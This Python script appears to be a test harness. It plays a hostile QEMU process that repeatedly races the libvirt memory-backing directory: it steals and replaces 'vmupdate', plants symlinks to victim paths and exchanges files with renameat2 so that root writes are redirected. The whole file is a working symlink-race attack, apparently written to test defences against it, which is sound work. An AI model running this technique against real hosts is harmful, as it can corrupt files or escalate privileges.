"""A hostile QEMU user: run as libvirt-qemu (setpriv), it attacks the RAM tree
in memory_backing_dir in a loop until killed:
  * renames `vmupdate` (root's 0700 directory of preserved RAM links) away and
    plants a symlink `vmupdate` -> VICTIM, or a directory of its own whose
    `<uuid>` entries are symlinks to VICTIM/<uuid>;
  * swaps `vmupdate` with a planted one by renameat2(RENAME_EXCHANGE);
  * plants a symlink `pc.ram` -> VICTIM_FILE in every new `<id>-<name>`
    directory before QEMU creates the file, and swaps a live `pc.ram` with a
    symlink (RENAME_EXCHANGE) and back.
Usage: ram_attacker.py RAMDIR VICTIM_DIR VICTIM_FILE UUID..."""
import ctypes
import os
import random
import re
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_renameat2 = 316


def exchange(a, b):
    return libc.syscall(SYS_renameat2, AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) == 0


def attempt(fn, *a):
    try:
        fn(*a)
        return True
    except OSError:
        return False


def main():
    ram, victim, victim_file, uuids = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
    me = os.getuid()
    top = os.path.join(ram, "vmupdate")
    n = 0
    stats = {}
    while True:
        n += 1
        act = random.choice(["steal", "plant-dir", "swap", "give-back", "pcram", "pcram-swap"])
        ok = False
        try:
            st = os.lstat(top)
        except OSError:
            st = None
        if act == "steal" and st is not None and st.st_uid != me:
            ok = attempt(os.rename, top, os.path.join(ram, "stolen.%d" % n))
            if ok:
                attempt(os.symlink, victim, top)
        elif act == "plant-dir":
            if st is not None and st.st_uid == me:
                attempt(os.unlink, top) or attempt(os.rename, top, os.path.join(ram, "att.%d" % n))
            d = os.path.join(ram, "att-new")
            attempt(os.mkdir, d, 0o777)
            for u in uuids:
                attempt(os.symlink, os.path.join(victim, u), os.path.join(d, u))
            ok = attempt(os.rename, d, top)
        elif act == "swap":
            others = [e for e in os.listdir(ram) if e.startswith(("stolen.", "att."))]
            if others:
                ok = exchange(top, os.path.join(ram, random.choice(others)))
        elif act == "give-back":
            stolen = [e for e in os.listdir(ram) if e.startswith("stolen.")]
            if stolen and (st is None or st.st_uid == me):
                if st is not None:
                    attempt(os.rename, top, os.path.join(ram, "att.%d" % n))
                ok = attempt(os.rename, os.path.join(ram, stolen[0]), top)
        elif act in ("pcram", "pcram-swap"):
            for e in os.listdir(ram):
                if not re.match(r"^\d+-", e):
                    continue
                p = os.path.join(ram, e, "pc.ram")
                if act == "pcram":
                    ok |= attempt(os.symlink, victim_file, p)
                else:
                    s = os.path.join(ram, e, "pc.ram.swap")
                    attempt(os.symlink, victim_file, s)
                    if exchange(p, s):
                        time.sleep(random.random() * 0.02)
                        exchange(p, s)
                        ok = True
        stats[act] = stats.get(act, 0) + (1 if ok else 0)
        if n % 500 == 0:
            print("attacker: %d rounds, successes %s" % (n, stats), flush=True)
        # mostly relentless, now and then quiet for a moment so that some
        # operations get through and the next steps are attacked as well
        time.sleep(0.3 if random.random() < 0.01 else random.random() * 0.004)


main()
